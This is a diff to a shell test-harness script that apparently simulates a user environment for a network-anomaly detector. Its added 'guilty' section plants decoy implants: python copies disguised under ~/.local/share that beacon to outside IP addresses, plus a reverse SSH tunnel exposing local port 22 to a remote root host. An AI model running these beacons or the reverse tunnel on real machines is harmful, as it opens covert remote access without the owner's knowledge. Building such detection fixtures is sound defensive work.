@@ -73,5 +73,28 @@ runs home-syncthing syncthing && { copied /usr/bin/syncthing $H/.local/bin/synct
 runs tor-browser tor && { copied /usr/sbin/tor $H/tor-browser/Browser/TorBrowser/Tor/tor; as_lena $H/tor-browser/Browser/TorBrowser/Tor/tor --DataDirectory $H/.tor2 --SocksPort 9151 > /dev/null 2>&1 & }
 runs provider-vpn openvpn && { copied /usr/sbin/openvpn /run/world/app/openvpn; mkdir -p $H/Privacy; cp /run/world/app/openvpn $H/Privacy/openvpn
 in_world openvpn --dev tun19 --ifconfig 10.45.0.1 10.45.0.2 --secret $work/vpn.key --cipher AES-256-CBC --port 1195 --multihome > /dev/null 2>&1 &
-$H/Privacy/openvpn --dev tun18 --ifconfig 10.45.0.2 10.45.0.1 --secret $work/vpn.key --cipher AES-256-CBC --remote 185.213.154.66 1195 --keepalive 10 60 > $work/vpn2.log 2>&1 & }
+$H/Privacy/openvpn --dev tun18 --ifconfig 10.45.0.2 10.45.0.1 --secret $work/vpn.key --cipher AES-256-CBC --remote 185.213.154.66 1195 --nobind --keepalive 10 60 > $work/vpn2.log 2>&1 & }
+}
+
+# The other side of it, with GUILTY=1: what must be found, in the same world. Of no package, with a window nowhere.
+guilty() {
+implant() { # NAME CODE: a copy of python that runs it
+    copied /usr/bin/python3 $H/.local/share/$1/$1; as_lena $H/.local/share/$1/$1 -c "import socket, time, random
+def call(ip, port=443, size=60):
+    try:
+        s = socket.create_connection((ip, port), 5); s.sendall(b'GET / HTTP/1.1\r\nHost: x\r\n\r\n' + b'x' * 0); s.recv(100000); s.close()
+    except OSError: pass
+$2" > /dev/null 2>&1 &
+}
+runs implant-minutes /usr/bin/python3 && implant minutes "time.sleep(20)
+while True: call('45.61.140.9', 80); time.sleep(100 * random.uniform(.7, 1.3))"
+runs implant-once /usr/bin/python3 && implant once "time.sleep(60); call('45.61.141.10', 80); time.sleep(9999)"
+runs implant-stands /usr/bin/python3 && implant stands "time.sleep(10); s = socket.create_connection(('45.61.142.11', 1883)); time.sleep(9999)"
+runs implant-dead /usr/bin/python3 && implant dead "time.sleep(10)
+while True: call('45.61.143.12', 4444); time.sleep(45)"
+runs implant-by-name /usr/bin/python3 && implant named "
+while True: call('news.daily-paper.org', 80); time.sleep(20 * random.uniform(.8, 1.2))"
+runs implant-heartbeat /usr/bin/python3 && implant heart "s = socket.create_connection(('45.61.144.13', 1883))
+while True: s.sendall(b'x' * 40); time.sleep(12)"
+runs reverse-tunnel ssh && as_lena $SSH -N -R 2222:127.0.0.1:22 -o ServerAliveInterval=15 root@45.61.145.14 > /dev/null 2>&1 &
 }
